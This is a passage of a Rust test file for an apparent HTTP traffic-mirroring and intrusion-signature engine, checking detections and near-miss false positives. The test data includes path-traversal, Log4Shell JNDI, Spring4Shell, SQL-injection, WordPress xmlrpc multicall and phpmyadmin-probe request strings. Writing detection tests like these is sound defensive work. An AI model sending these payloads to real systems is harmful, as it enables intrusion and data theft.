        "/view?page=C:%5Cwindows%5Cwin.ini",
        "/a/b/..",
        "/%c0%ae%c0%ae/etc/passwd",
    ] {
        assert_detects(t, Req::get(path));
    }
}

#[test]
fn path_traversal_near_misses_are_clean() {
    for path in [
        "/files/v1..2/readme",
        "/a/...hidden/x",
        "/a..b/c",
        "/docs/etc/password-policy",
        "/search?q=a..b",
        "/windows/install",
    ] {
        assert_clean(Req::get(path));
    }
    // Bodies are not looked at for traversal (uploads legitimately contain `../`).
    assert_clean(Req::post("/upload", "text/plain", b"import '../lib/x.js'"));
}

#[test]
fn wordpress_xmlrpc_multicall_only_when_posted_to_xmlrpc() {
    let body = b"<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params/></methodCall>";
    assert_detects(
        "wordpress_xmlrpc",
        Req::post("/xmlrpc.php", "text/xml", body),
    );
    assert_detects(
        "wordpress_xmlrpc",
        Req::post("/blog/XMLRPC.php", "text/xml", body),
    );
    assert_detects(
        "wordpress_xmlrpc",
        Req::post("/blog/xmlrpc%2Ephp", "text/xml", body),
    );
    // A different method, a different endpoint, or a GET are not this signature.
    assert_clean(Req::post(
        "/xmlrpc.php",
        "text/xml",
        b"<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>",
    ));
    assert_clean(Req::post("/api/rpc", "text/xml", body));
    assert_clean(Req::get("/xmlrpc.php?system.multicall"));
}

#[test]
fn body_is_wanted_only_when_it_can_matter() {
    let p = default_policy();
    let get = Req::get("/x");
    let hits = p.new_hits();
    assert!(
        p.wants_body(&get.view(), &hits),
        "log4shell looks in bodies"
    );
    let off = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},
            "signatures":{"categories":{"log4shell":false,"spring4shell":false,
                "cloud_metadata":false,"download_exec":false}}}"#,
    );
    assert!(!off.wants_body(&Req::get("/x").view(), &off.new_hits()));
    let xml = Req::post("/xmlrpc.php", "text/xml", b"x");
    assert!(off.wants_body(&xml.view(), &off.new_hits()));
    let confl = Req::post("/pages/doenterpagevariables.action", "text/plain", b"x");
    assert!(off.wants_body(&confl.view(), &off.new_hits()));
    let no_body = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"signatures":{"inspect_body":false}}"#,
    );
    assert!(!no_body.wants_body(&xml.view(), &no_body.new_hits()));
    // Once the head matched, the body cannot change the decision.
    let hit = Req::get("/").header("x", "${jndi:ldap://e}");
    let mut hits = p.new_hits();
    p.scan_head(&hit.view(), &mut hits);
    assert!(!p.wants_body(&hit.view(), &hits));
}

#[test]
fn body_beyond_max_body_bytes_is_not_inspected() {
    let p =
        policy(r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"max_body_bytes":64}"#);
    let mut body = vec![b'a'; 100];
    body.extend_from_slice(b"${jndi:ldap://e}");
    assert!(scan(&p, &Req::post("/x", "text/plain", &body)).is_empty());
    assert_eq!(
        scan(&p, &Req::post("/x", "text/plain", &body[90..])),
        vec!["log4shell".to_string()]
    );
}

#[test]
fn categories_can_be_switched_off_and_master_switch() {
    let off = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"signatures":{"categories":{"path_traversal":false}}}"#,
    );
    assert!(scan(&off, &Req::get("/a/../../etc/passwd")).is_empty());
    assert_eq!(
        scan(&off, &Req::get("/").header("x", "${jndi:x}")),
        vec!["log4shell"]
    );
    let none = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"signatures":{"enabled":false,"custom":[{"name":"c","literal":"zzz"}]}}"#,
    );
    assert!(scan(&none, &Req::get("/zzz/").header("x", "${jndi:x}")).is_empty());
}

#[test]
fn custom_signatures_respect_their_locations() {
    let p = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},
            "signatures":{"custom":[
              {"name":"acme-backdoor","literal":"X-Acme-Debug-Token","in":["headers"]},
              {"name":"sqli-union","literal":"union select","in":["query","body"]},
              {"name":"admin-probe","literal":"/phpmyadmin","in":["path"]}]}}"#,
    );
    assert_eq!(
        scan(&p, &Req::get("/").header("x-acme-debug-token", "1")),
        vec!["acme-backdoor"]
    );
    assert!(scan(&p, &Req::get("/x-acme-debug-token")).is_empty());
    assert_eq!(
        scan(&p, &Req::get("/?id=1%20UNION%20SELECT%20pw")),
        vec!["sqli-union"]
    );
    assert_eq!(
        scan(
            &p,
            &Req::post(
                "/q",
                "application/x-www-form-urlencoded",
                b"id=1+union+select+2"
            )
        ),
        vec!["sqli-union"]
    );
    assert!(scan(&p, &Req::get("/union select/")).is_empty());
    assert_eq!(
        scan(&p, &Req::get("/PhpMyAdmin/index.php")),
        vec!["admin-probe"]
    );
    assert!(scan(&p, &Req::get("/?u=/phpmyadmin")).is_empty());
}

#[test]
fn several_categories_travel_together_in_report_order() {
    let p = default_policy();
    let r = Req::get("/a/../b?class.module.classLoader.x=1").header("x", "${jndi:ldap://e}");
    let s = select(&p, &r);
    assert_eq!(s.reason, MirrorReason::Signature);
    assert_eq!(
        s.signatures,
        vec!["log4shell", "spring4shell", "path_traversal"]
    );
}

#[test]
fn a_signature_overrides_a_never_rule_and_goes_to_the_signature_target() {
    let p = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"},"bulk":{"cluster":"b","delivery":"dispatch"}},
            "default_target":"bulk","signatures":{"target":"ids"},
            "rules":[{"name":"quiet","action":{"type":"never"}}]}"#,
    );
    let s = select(&p, &Req::get("/x?f=../../etc/passwd"));
    assert_eq!(s.reason, MirrorReason::Signature);
    assert_eq!(p.targets()[s.target.unwrap()].name, "ids");
    assert_eq!(
        rule_of(&p, &Req::get("/x")),
        (MirrorReason::NotSelected, Some("quiet".into()))
    );
}

#[test]
fn decision_headers_cover_every_header_target() {
    let p = policy(
        r#"{"targets":{"a":{"cluster":"s","delivery":"header","header":"X-SOC-Copy"},"b":{"cluster":"t","delivery":"dispatch"}},"default_target":"a"}"#,
    );
    assert_eq!(
        p.decision_headers(),
        vec!["x-meshsight-mirror", "x-soc-copy"]
    );
}

#[test]
fn hold_for_body_only_with_a_header_target() {
    assert!(!default_policy().hold_for_body(), "off by default");
    let header =
        policy(r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"hold_for_body":true}"#);
    assert!(header.hold_for_body());
    let dispatch =
        policy(r#"{"targets":{"ids":{"cluster":"s","delivery":"dispatch"}},"hold_for_body":true}"#);
    assert!(
        !dispatch.hold_for_body(),
        "dispatch copies the body as it passes"
    );
}

#[test]
fn hold_timeout_defaults_to_a_quarter_second_and_is_bounded() {
    assert_eq!(default_policy().hold_timeout_ms(), 250);
    let p = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"dispatch"}},"hold_for_body":true,"hold_timeout_ms":40}"#,
    );
    assert_eq!(p.hold_timeout_ms(), 40);
    for bad in ["0", "30001"] {
        let err = error(&format!(
            r#"{{"targets":{{"ids":{{"cluster":"s","delivery":"dispatch"}}}},"hold_timeout_ms":{bad}}}"#
        ));
        assert!(
            err.starts_with("hold_timeout_ms: must be 1 to 30000"),
            "{err}"
        );
    }
    let err = error(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"dispatch"}},"hold_timeout_ms":"1s"}"#,
    );
    assert!(err.starts_with("hold_timeout_ms"), "{err}");
}
